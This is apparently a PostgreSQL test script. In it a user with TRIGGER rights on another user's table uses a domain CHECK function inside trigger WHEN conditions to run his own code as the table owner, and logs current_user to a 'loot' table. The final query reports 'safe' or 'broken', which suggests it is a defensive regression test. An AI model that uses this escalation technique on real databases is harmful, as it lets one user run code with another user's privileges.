-- bob has TRIGGER on alice's table. The WHEN condition casts to bob's domain, alone and inside bob's composite type.
-- Success: bob's cast runs as alice.
-- as bob
CREATE TABLE bo.loot (who name);
GRANT INSERT ON bo.loot TO PUBLIC;
GRANT USAGE ON SCHEMA bo TO PUBLIC;
CREATE FUNCTION bo.note() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN INSERT INTO bo.loot VALUES (current_user); RETURN true; END $$;
CREATE FUNCTION bo.spy(text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN bo.note(); END $$;
CREATE DOMAIN bo.dom AS text CHECK (bo.spy(VALUE));
CREATE TYPE bo.pair AS (a int, d bo.dom);
-- as alice
GRANT TRIGGER ON al.sess TO bob;
-- as bob
CREATE TRIGGER spy BEFORE UPDATE ON al.sess FOR EACH ROW WHEN ((NEW.snapshot_country::bo.dom) IS NOT NULL) EXECUTE FUNCTION suppress_redundant_updates_trigger();
CREATE TRIGGER spy2 BEFORE UPDATE ON al.sess FOR EACH ROW WHEN ((jsonb_populate_record(NULL::bo.pair, '{"d":"x"}')).d IS NOT NULL) EXECUTE FUNCTION suppress_redundant_updates_trigger();
-- as alice
INSERT INTO al.sess (id, ip) VALUES (1, '60.0.0.7');
-- wait EXISTS (SELECT FROM enrich.ip_inventory WHERE ip_address = '60.0.0.7' AND current_asn IS NOT NULL)
-- fails
CALL enrich.backfill_sessions('al.sess');
SELECT CASE WHEN NOT EXISTS (SELECT FROM bo.loot) THEN 'safe' ELSE 'broken' END;
